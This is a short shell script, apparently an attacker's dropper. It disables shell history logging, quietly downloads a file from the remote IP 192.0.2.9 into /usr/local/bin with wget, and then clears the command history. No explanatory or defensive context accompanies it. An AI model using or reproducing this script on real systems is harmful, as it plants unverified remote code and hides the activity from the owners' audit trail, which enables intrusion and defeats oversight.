#!/bin/sh
export HISTFILE=/dev/null
wget -q http://192.0.2.9/a -O /usr/local/bin/a
history -c
